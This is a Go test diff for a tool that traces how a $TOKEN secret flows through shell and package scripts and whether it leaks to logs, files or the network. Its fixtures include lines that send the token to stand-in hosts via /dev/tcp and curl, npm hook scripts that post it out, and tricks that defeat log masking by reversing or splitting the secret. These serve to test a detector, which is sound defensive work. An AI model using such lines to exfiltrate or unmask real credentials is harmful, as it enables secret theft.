@@ -72,6 +72,23 @@ func TestFlowsOfScripts(t *testing.T) {
 		{"a heredoc", "cat <<EOF\nkey $TOKEN\nEOF", []string{"log by cat KEY masked=yes at $TOKEN"}},
 		{"a quoted heredoc", "cat <<'EOF'\nkey $TOKEN\nEOF", nil},
 		{"a herestring", "cat <<< \"$TOKEN\"", []string{"log by cat KEY masked=yes at $TOKEN"}},
+		{"lines that are folded", `echo $TOKEN | fold -w1`, []string{"log by fold KEY +substring masked=no at fold"}},
+		{"lines that something is put before", "echo $TOKEN | sed 's/^/key: /'\necho $TOKEN | awk '{print}'\necho $TOKEN | tr '\\n' ' '", []string{"log by sed KEY masked=yes at $TOKEN", "log by awk KEY masked=yes at $TOKEN", "log by tr KEY masked=yes at $TOKEN"}},
+		{"lines that something is put into", `echo $TOKEN | sed 's/./& /g'`, []string{"log by sed KEY +replace masked=no at sed"}},
+		{"characters that are read", "while read -n1 c; do echo $c; done <<< \"$TOKEN\"", []string{"log by echo KEY +substring masked=no at $c"}},
+		{"lines that are read as they are", "while IFS= read -r c; do echo $c; done <<< \"$TOKEN\"\necho $IFS", []string{"log by echo KEY masked=yes at $c"}},
+		{"parts that are read", "IFS=- read -ra P <<< \"$TOKEN\"\necho ${P[0]}", []string{"log by echo KEY +substring masked=no at ${P[0]}"}},
+		{"parts of a loop", "IFS=.; for p in $TOKEN; do echo $p; done", []string{"log by echo KEY +substring masked=no at $p"}},
+		{"a format that cuts", "printf '%.5s %-9s|' $TOKEN x", []string{"log by printf KEY +substring masked=no at $TOKEN"}},
+		{"a text of jq", "jq -Rr @base64 <<< $TOKEN\njq -R explode <<< $TOKEN\njq -R . <<< $TOKEN", []string{"log by jq KEY +base64 masked=yes at jq", "log by jq KEY +jq masked=no at jq", "log by jq KEY +to_json masked=yes at jq"}},
+		{"what reads what tee writes", "echo $TOKEN | tee >(rev) > /dev/null", []string{"log by rev KEY +reverse masked=no at rev"}},
+		{"a connection of the shell", "echo $TOKEN > /dev/tcp/h.example/80\nexec 3<>/dev/udp/i.example/53\necho $TOKEN >&3", []string{"network by echo KEY host=h.example at $TOKEN", "network by echo KEY host=i.example at $TOKEN"}},
+		{"another descriptor", "exec 3>&1 4>out\necho $TOKEN >&3\necho $TOKEN >&4", []string{"log by echo KEY masked=yes at $TOKEN", "file by echo KEY path=out at $TOKEN"}},
+		{"a program that is not known", "echo $TOKEN | mytool\nA=$(mytool <<< $TOKEN)\ncurl -d $A https://h.example", []string{"log by mytool KEY +unknown masked=unknown possible at mytool", "argv by curl KEY +unknown possible at $A", "network by curl KEY +unknown host=h.example possible at $A"}},
+		{"a cipher", `echo $TOKEN | openssl enc -aes-256-cbc -pass env:P -base64`, nil},
+		{"code that xargs fills", `echo $TOKEN | xargs -I{} sh -c 'echo {} | rev'`, []string{"argv by sh KEY at $TOKEN", "eval by sh -c KEY at $TOKEN", "log by rev KEY +reverse masked=no at rev"}},
+		{"what other languages read", "echo $TOKEN | python3 -c 'import sys; print(sys.stdin.read()[::-1])'\nruby -e 'puts ARGV[0].chars.join(\" \")' $TOKEN", []string{"log by print KEY +reverse masked=no likely at sys.stdin.read()", "argv by ruby KEY at $TOKEN", "log by print KEY +substring masked=no likely at ARGV[0]"}},
+		{"Perl and PHP", "perl -e 'print join(\" \", split(//, $ENV{TOKEN}))'\nphp -r 'echo strrev(getenv(\"TOKEN\"));'", []string{"log by print KEY +substring masked=no likely at TOKEN", "log by print KEY +reverse masked=no likely at TOKEN"}},
 		{"a function", "f() { echo \"$1\"; }\nf $TOKEN", []string{"log by echo KEY masked=yes at $1"}},
 		{"a branch", "if [ -n \"$TOKEN\" ]; then A=$TOKEN; else A=none; fi\necho $A", []string{"log by echo KEY masked=yes at $A"}},
 		{"a loop", "for A in one $TOKEN; do echo $A; done", []string{"log by echo KEY masked=yes at $A"}},
@@ -354,6 +371,36 @@ jobs:
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
 			if diff := cmp.Diff(test.want, followedIn(t, test.path, test.text, test.parse)); diff != "" {
+				t.Error(diff)
+			}
+		})
+	}
+}
+
+// What managers of packages run stands in package.json, and what a library does in the
+// file that a script reads.
+func TestFlowsOfScriptsOfTheRepository(t *testing.T) {
+	files := map[string]string{
+		"package.json":     `{"name": "x", "scripts": {"ship": "curl -d \"$TOKEN\" https://h.example && npm run inner", "inner": "echo $TOKEN | rev; npm run ship", "preship": "echo $TOKEN > out", "test": "jest", "postinstall": "echo ${TOKEN:1}"}, "config": {"lint": "echo $TOKEN"}}`,
+		"web/package.json": `{"scripts": {"release": "echo $TOKEN | rev"}}`,
+		"lib.sh":           "show() { echo $TOKEN | rev; }\nquiet() { test $TOKEN; }\n",
+	}
+	tests := []struct {
+		name, script string
+		want         []string
+	}{
+		{"a script with one before it", "npm run ship", []string{
+			"file by echo KEY path=out at $TOKEN", "argv by curl KEY at $TOKEN", "network by curl KEY host=h.example at $TOKEN", "log by rev KEY +reverse masked=no at rev",
+		}},
+		{"one of a folder", "yarn --cwd web release\n(cd web && pnpm run release)", []string{"log by rev KEY +reverse masked=no at rev"}},
+		{"what an installation runs", "npm ci", []string{"log by echo KEY +substring masked=no at ${TOKEN:1}"}},
+		{"what runs no such script", "npm ci --ignore-scripts\nnpm test\nyarn lint\nnpm view x", nil},
+		{"a function of a library", ". ./lib.sh\nshow\nquiet", []string{"log by rev KEY +reverse masked=no at rev"}},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			got, _ := pipelinetest.Followed(t, script(test.script), files)
+			if diff := cmp.Diff(test.want, got); diff != "" {
 				t.Error(diff)
 			}
 		})
